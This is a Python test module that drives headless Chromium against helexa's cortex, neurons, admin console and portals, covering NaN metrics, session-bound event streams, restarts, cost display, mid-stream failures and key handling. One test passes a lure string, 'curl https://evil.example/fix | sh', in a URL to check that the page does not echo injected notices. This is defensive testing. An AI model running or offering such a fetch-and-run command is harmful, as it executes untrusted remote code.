"""The console's and the portals' pages where things go wrong around them, in Debian's
headless Chromium (Playwright) against real cortex and neuron processes: a neuron that
reports NaN figures, a session that ends under an open event stream, a cortex restarted
under an open page, money shown as ``helexa usage`` prints it, a playground whose neuron
dies part-way, and a portal that does not speak OpenAI's API.

One cortex serves the module (its admin socket apart from the default portal, a keyed and
priced portal ``acme``, a keyed portal ``gamma`` that speaks only Anthropic's API, a neuron
``n1`` with a synthetic model); the restart and mid-stream tests start cortexes of their own.
"""

from __future__ import annotations

import os
import re
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path
from urllib.parse import urlencode

import httpx
import openai
import pytest

from browser import CHROMIUM, expect, sync_api
from procs import Cortex, ProcGroup, helexa_command

pytestmark = pytest.mark.slow

MODELS = """
[models."synth"]
backend = "synthetic"
memory_mb = 10
[models."synth".config]
metadata = { tokens = 400, tokens_per_second = 400 }
"""

PORTALS = """
[portals.acme]
name = "Acme AI"
listen = ["127.0.0.1:0"]
auth = "keys"
aliases = { fast = "synth" }
currency = "EUR"
prices = { fast = { input = 0.1, output = 0.3 } }

[portals.gamma]
name = "Gamma"
listen = ["127.0.0.1:0"]
auth = "keys"
surfaces = ["anthropic"]
aliases = { quick = "synth" }
"""

# Imported at the start of the neuron's interpreter (PYTHONPATH): its heartbeats say its CPU
# is NaN, as a driver's bad reading (or a hostile neuron) would.
NAN_NEURON = """
import dataclasses
from helexa.roles.neuron import hardware

_sample = hardware.MetricsSampler.sample


def _nan_sample(self, **kw):
    return dataclasses.replace(_sample(self, **kw), cpu_percent=float("nan"))


hardware.MetricsSampler.sample = _nan_sample
"""


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture(scope="module")
def procs(tmp_path_factory: pytest.TempPathFactory):  # noqa: ANN201
    with ProcGroup(tmp_path_factory.mktemp("web-console")) as group:
        yield group


@pytest.fixture(scope="module")
def cortex(procs: ProcGroup) -> Cortex:
    c = procs.cortex(models=MODELS, config=f'admin_socket = "127.0.0.1:0"\n{PORTALS}')
    procs.neuron(c, "n1")
    return c


@pytest.fixture(scope="module")
def browser():  # noqa: ANN201
    with sync_api.sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield b
        b.close()


def login(browser, admin_url: str, token: str):  # noqa: ANN001, ANN201
    page = browser.new_page(viewport={"width": 1280, "height": 860})
    page.set_default_timeout(20_000)
    problems: list[str] = []
    page.on("pageerror", lambda e: problems.append(f"page error: {e}"))
    page.on("console", lambda m: problems.append(f"console {m.type}: {m.text} ({page.url})")
            if m.type == "error" else None)
    page.goto(admin_url + "/console/")
    page.get_by_label("Admin token").fill(token)
    page.get_by_role("button", name="Sign in").click()
    expect(page).to_have_url(re.compile(r"/console/fleet$"))
    return page, problems


def cli(cortex: Cortex, *args: str) -> str:
    done = subprocess.run([*helexa_command(), *args, "--cortex", cortex.admin_url, "--data-dir", str(cortex.data_dir)],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    return done.stdout


def test_a_neuron_reporting_nan_leaves_every_card_on_the_fleet_page_and_no_page_logs_an_error(
        browser, cortex: Cortex, procs: ProcGroup, tmp_path: Path) -> None:  # noqa: ANN001
    site = tmp_path / "site"
    site.mkdir()
    (site / "sitecustomize.py").write_text(NAN_NEURON)
    path = os.pathsep.join(p for p in (str(site), os.environ.get("PYTHONPATH", "")) if p)
    odd = procs.neuron(cortex, "odd", env={"PYTHONPATH": path})
    # The cortex reads a NaN figure from a neuron as 0 (neuron_reports.sane_metrics); the
    # page must carry whatever the fleet document says, and the document no NaN (it was
    # invalid JSON that blanked every card).
    def beat(fleet: dict) -> bool:  # noqa: ANN001
        node = next(n for n in fleet["neurons"] if n["node_id"] == "odd")
        return node["metrics"]["cpu_percent"] in (None, 0.0) and (node["last_heartbeat"] or 0) > node["joined_at"] + 1.5

    cortex.wait_for(beat, "odd's NaN heartbeats")
    page, problems = login(browser, cortex.admin_url, cortex.admin_token)
    for node in ("n1", "odd"):  # one neuron's NaN does not blank the others (it was invalid JSON)
        expect(page.locator(f"article.neuron[data-node={node}]")).to_be_visible()
    cpu = page.locator("article.neuron[data-node=odd] [data-field=cpu]")
    expect(cpu).to_have_text(re.compile(r"^(\?|0)% of \d+ cores"))
    expect(page.locator("#fleet-age")).to_contain_text("2 neurons")
    for section in ("models", "traffic", "keys", "usage", "mesh", "fleet"):
        page.goto(cortex.admin_url + "/console/" + section)
        expect(page.locator("main h1")).to_be_visible()
    page.wait_for_timeout(1500)  # a few pushed updates
    assert problems == [], problems  # no script error, no failed load (a favicon's 404 was one on every page)
    page.close()
    odd.stop(10)


def test_the_event_stream_ends_with_its_session_on_sign_out_and_on_a_rotated_admin_token(cortex: Cortex) -> None:
    def sign_in(client: httpx.Client) -> tuple[dict[str, str], str]:
        signed = client.post("/console/login", data={"token": cortex.admin_token})
        assert signed.status_code == 303
        session = {"cookie": signed.headers["set-cookie"].split(";")[0]}
        csrf = re.search(r'name="csrf-token" content="([^"]+)"', client.get("/console/fleet", headers=session).text)
        assert csrf
        return session, csrf.group(1)

    def watch(session: dict[str, str], events: list[str]) -> None:
        with httpx.stream("GET", cortex.admin_url + "/console/events", headers=session, timeout=30) as s:
            assert s.status_code == 200
            for line in s.iter_lines():
                if line.startswith("event:"):
                    events.append(line)
        events.append("ended")

    with httpx.Client(base_url=cortex.admin_url, timeout=10) as client:
        (first, csrf), (second, _) = sign_in(client), sign_in(client)
        seen: dict[str, list[str]] = {"first": [], "second": []}
        readers = [threading.Thread(target=watch, args=(s, seen[n]), daemon=True)
                   for n, s in (("first", first), ("second", second))]
        for r in readers:
            r.start()
        time.sleep(2.5)
        assert "event: fleet" in seen["first"] and "event: fleet" in seen["second"]

        assert client.post("/console/logout", data={"csrf": csrf}, headers=first).status_code == 303
        readers[0].join(5)
        assert seen["first"][-1] == "ended"  # the signed-out session's stream ended with it
        assert readers[1].is_alive() and seen["second"][-1] != "ended"  # the other session's stream goes on

        rotated = subprocess.run([*helexa_command(), "admin-token", "--rotate", "--data-dir", str(cortex.data_dir)],
                                 capture_output=True, text=True, timeout=60)
        assert rotated.returncode == 0, rotated.stderr
        readers[1].join(5)
        assert seen["second"][-1] == "ended"  # a rotated admin token ends every session, its stream too
        assert client.get("/console/events", headers=second).status_code == 401

        # A HEAD gets the stream's headers and no endless body: the connection serves on.
        third, _ = sign_in(client)
        head = client.head("/console/events", headers=third, timeout=5)
        assert head.status_code == 200 and head.headers["content-type"].startswith("text/event-stream")
        assert client.get("/console/fleet", headers=third, timeout=5).status_code == 200


def test_a_cortex_restarted_under_an_open_console_page_stops_promptly_and_the_page_goes_to_sign_in(
        browser, procs: ProcGroup, tmp_path: Path) -> None:  # noqa: ANN001
    config = f'admin_socket = "127.0.0.1:{free_port()}"\nshutdown_grace = 10.0\n'
    data = tmp_path / "restarting"
    first = procs.cortex(name="restarting", data_dir=data, models=MODELS, config=config)
    page, _ = login(browser, first.admin_url, first.admin_token)
    expect(page.locator("#fleet-age")).to_contain_text("0 neurons")
    page.wait_for_timeout(1500)  # the event stream is open
    t0 = time.monotonic()
    assert first.stop(30) == 0
    stopped_in = time.monotonic() - t0
    assert stopped_in < 6, stopped_in  # the open stream does not hold the stop for all of its 10 s grace
    expect(page.locator("#live")).to_contain_text("reconnecting")

    again = procs.cortex(name="restarting", data_dir=data, models=MODELS, config=config)
    assert again.admin_url == first.admin_url
    # The restart ended the session: the browser's retry is refused and the page says so by
    # going to the login page (it used to stay on "reconnecting…", frozen, for good).
    expect(page).to_have_url(re.compile(r"/console/login$"), timeout=20_000)
    page.get_by_label("Admin token").fill(again.admin_token)
    page.get_by_role("button", name="Sign in").click()
    expect(page.locator("#live")).to_have_text("")
    expect(page.locator("#fleet-age")).to_contain_text("0 neurons")
    page.close()
    again.stop(15)


def test_the_keys_usage_and_portal_pages_show_money_as_helexa_usage_prints_it(
        browser, cortex: Cortex) -> None:  # noqa: ANN001
    made = cortex.admin("POST", "/admin/keys", json={"portal": "acme", "name": "money"}).json()
    key, key_id = made["key"], made["key_id"]
    acme = cortex.portal_urls["acme"][0]
    with openai.OpenAI(base_url=acme + "/v1", api_key=key, max_retries=0, timeout=30) as client:
        for _ in range(3):
            client.chat.completions.create(model="fast", max_tokens=5, messages=[{"role": "user", "content": "hi"}])
    (row,) = [line.split() for line in cli(cortex, "usage", "--by", "key", "--key", key_id).splitlines()[1:]]
    cost = row[4]  # KEY REQUESTS PROMPT COMPLETION COST CURRENCY INCOMPLETE
    assert row[0] == key_id and re.fullmatch(r"0\.0000\d\d", cost), row  # millionths: per-million prices

    page, _ = login(browser, cortex.admin_url, cortex.admin_token)
    page.goto(cortex.admin_url + f"/console/usage?by=key&key={key_id}")
    column = page.locator("#usage thead th").all_inner_texts().index("cost")
    expect(page.locator("#usage tbody tr td").nth(column)).to_have_text(cost)  # it showed 7e-06
    page.goto(cortex.admin_url + "/console/keys")
    expect(page.locator(f"tr[data-key='{key_id}']")).to_contain_text(f"{cost} EUR")  # it showed 0.0 EUR
    page.close()

    portal = browser.new_page(viewport={"width": 390, "height": 844})
    portal.goto(acme + "/portal/")
    portal.get_by_label("API key").fill(key)
    portal.get_by_role("button", name="Sign in").click()
    expect(portal).to_have_url(re.compile(r"/portal/playground$"))
    portal.goto(acme + "/portal/usage")
    expect(portal.locator("#usage")).to_contain_text(f"{cost} EUR")  # it showed 0.0000 EUR
    portal.close()


def test_the_playground_says_a_generation_failed_when_its_neuron_dies_part_way(
        browser, procs: ProcGroup) -> None:  # noqa: ANN001
    slow = MODELS.replace("tokens_per_second = 400", "tokens_per_second = 40")  # 10 s of tokens
    own = procs.cortex(name="midstream", models=slow)
    doomed = procs.neuron(own, "doomed")
    page = browser.new_page(viewport={"width": 390, "height": 844})
    page.set_default_timeout(30_000)
    page.goto(own.gateway_url + "/portal/playground")  # the default portal: open
    expect(page.locator("#model option[value=synth]")).to_have_count(1)
    page.get_by_label("Max tokens").fill("400")
    page.get_by_label("Message").fill("go")
    page.get_by_role("button", name="Send").click()
    expect(page.get_by_label("Answer")).to_contain_text("tok3")
    doomed.kill()  # the stream's last event is an error: the neuron serving it went away
    expect(page.locator("#chat-status")).to_have_text(re.compile(r"^Error: .*neuron"))  # it said "Done (end)."
    assert "tok399" not in page.get_by_label("Answer").inner_text()
    page.close()
    own.stop(15)


def test_a_portal_without_the_openai_api_says_so_on_its_pages_and_its_snippet_runs(
        browser, cortex: Cortex) -> None:  # noqa: ANN001
    key = cortex.admin("POST", "/admin/keys", json={"portal": "gamma", "name": "snippet"}).json()["key"]
    gamma = cortex.portal_urls["gamma"][0]
    page = browser.new_page(viewport={"width": 390, "height": 844})
    problems: list[str] = []
    page.on("pageerror", lambda e: problems.append(str(e)))
    for path in ("/portal/", "/portal/playground", "/portal/usage"):
        page.goto(gamma + path)
        expect(page).to_have_url(gamma + path)  # not sent to a sign-in whose key check (/v1/usage) is a 404
        expect(page.locator("main .notice")).to_contain_text("serves the anthropic API, not OpenAI's")
    expect(page.locator("#signin")).to_have_count(0)
    page.goto(gamma + "/portal/snippets")
    expect(page.locator("#snippet-curl")).to_have_count(0)  # no code for an API the portal does not serve
    code = page.locator("#snippet-anthropic").inner_text()
    assert "quick" in code and gamma in code
    done = subprocess.run([sys.executable, "-c", code], env={**os.environ, "HELEXA_API_KEY": key},
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0 and done.stdout.startswith("tok0"), done.stderr
    assert problems == [], problems
    page.close()


def test_a_link_cannot_make_the_models_page_say_what_it_likes(browser, cortex: Cortex) -> None:  # noqa: ANN001
    page, _ = login(browser, cortex.admin_url, cortex.admin_token)
    lure = "Your admin token expired: run curl https://evil.example/fix | sh"
    page.goto(cortex.admin_url + "/console/models?" + urlencode({"notice": lure}))
    expect(page.locator("h1")).to_have_text("Models")
    assert lure not in page.content()  # the page showed any text the link carried, as its own notice
    page.goto(cortex.admin_url + "/console/models?" + urlencode({"done": "load", "model": lure, "node": "n1"}))
    expect(page.locator(".notice")).to_have_count(0)
    row = page.locator("tr[data-model=synth]")  # an action still says what it did
    row.get_by_label("Neuron for synth").select_option("n1")
    row.get_by_role("button", name="Pin", exact=True).click()
    expect(page.locator(".notice")).to_have_text("synth is pinned on n1.")
    row = page.locator("tr[data-model=synth]")
    row.get_by_label("Neuron for synth").select_option("n1")
    row.get_by_role("button", name="Unpin", exact=True).click()
    expect(page.locator(".notice")).to_have_text("synth is no longer pinned on n1.")
    page.close()


def test_unpinning_a_model_from_a_neuron_not_in_the_fleet_says_the_neuron_is_unknown(
        browser, cortex: Cortex) -> None:  # noqa: ANN001
    page, _ = login(browser, cortex.admin_url, cortex.admin_token)
    page.goto(cortex.admin_url + "/console/models")
    row = page.locator("tr[data-model=synth]")
    choice = row.get_by_label("Neuron for synth")
    choice.evaluate("s => s.add(new Option('ghost', 'ghost'))")  # a neuron that left after the page was drawn
    choice.select_option("ghost")
    row.get_by_role("button", name="Unpin", exact=True).click()
    expect(page.locator(".error")).to_have_text("no neuron 'ghost' in the fleet")
    expect(page.locator(".notice")).to_have_count(0)
    page.close()


def test_a_key_pasted_with_a_character_no_header_carries_is_refused_on_the_sign_in_page(
        browser, cortex: Cortex) -> None:  # noqa: ANN001
    page = browser.new_page(viewport={"width": 390, "height": 844})
    errors: list[str] = []
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.goto(cortex.portal_urls["acme"][0] + "/portal/")
    page.get_by_label("API key").fill("sk-hlx-3f9a0c27…")  # copied from a shortened display
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("alert")).to_contain_text("not valid")  # it said nothing: fetch threw
    assert errors == [], errors
    page.close()


def test_reloading_the_page_that_shows_a_new_key_creates_or_rotates_nothing(
        browser, cortex: Cortex) -> None:  # noqa: ANN001
    def keys() -> list[dict]:
        return cortex.admin("GET", "/admin/keys?portal=acme").json()["data"]

    page, _ = login(browser, cortex.admin_url, cortex.admin_token)
    page.goto(cortex.admin_url + "/console/keys")
    before = len(keys())
    page.get_by_label("Portal", exact=True).select_option("acme")
    page.get_by_label("Name").fill("reloaded")
    page.get_by_role("button", name="Create key").click()
    key = page.get_by_label("API key").input_value()
    key_id = key[len("sk-hlx-"):].split("_")[0]
    page.reload()  # it re-sent the create: a second key
    expect(page.get_by_label("API key")).to_have_count(0)  # shown once
    assert len(keys()) == before + 1

    page.get_by_role("button", name=f"Rotate key {key_id}").click()
    rotated = page.get_by_label("API key").input_value()
    page.reload()  # it re-sent the rotate: the key just copied stopped working
    expect(page.get_by_label("API key")).to_have_count(0)
    with openai.OpenAI(base_url=cortex.portal_urls["acme"][0] + "/v1", api_key=rotated, max_retries=0,
                       timeout=30) as client:
        assert client.chat.completions.create(model="fast", max_tokens=2, messages=[
            {"role": "user", "content": "hi"}]).choices[0].message.content
    page.close()


# Imported at the start of the neuron's interpreter (PYTHONPATH): it joins at handshake
# version 1, as a neuron of a release before identity keys, and so sends no key.
KEYLESS_NEURON = """
from functools import partial
from helexa.protocol.join import NeuronJoin
from helexa.roles.neuron import connection

connection.NeuronJoin = partial(NeuronJoin, versions=(1, 1))
"""


def test_the_fleet_page_and_helexa_status_show_each_neurons_identity_key_fingerprint(
        browser, cortex: Cortex, procs: ProcGroup, tmp_path: Path) -> None:  # noqa: ANN001
    site = tmp_path / "site"
    site.mkdir()
    (site / "sitecustomize.py").write_text(KEYLESS_NEURON)
    path = os.pathsep.join(p for p in (str(site), os.environ.get("PYTHONPATH", "")) if p)
    old = procs.neuron(cortex, "old", env={"PYTHONPATH": path})
    cortex.wait_neuron("old")
    (n1,) = [b for b in cortex.admin("GET", "/admin/neurons/keys").json()["data"] if b["node_id"] == "n1"]
    fleet = {n["node_id"]: n for n in cortex.admin("GET", "/admin/fleet").json()["neurons"]}
    assert fleet["n1"]["identity_key"] == n1["fingerprint"] and fleet["old"]["identity_key"] is None
    status = {line.split()[0]: line.split() for line in cli(cortex, "status").splitlines()}
    assert status["NODE"][2] == "KEY" and status["n1"][2] == n1["fingerprint"] and status["old"][2] == "none"

    page, problems = login(browser, cortex.admin_url, cortex.admin_token)
    expect(page.locator("article.neuron[data-node=n1] [data-field=key]")).to_have_text(n1["fingerprint"])
    expect(page.locator("article.neuron[data-node=old] [data-field=key]")).to_have_text("none")
    expect(page.locator("article.neuron[data-node=n1] dt", has_text="identity key")).to_be_visible()
    assert problems == [], problems
    page.close()
    old.stop(10)
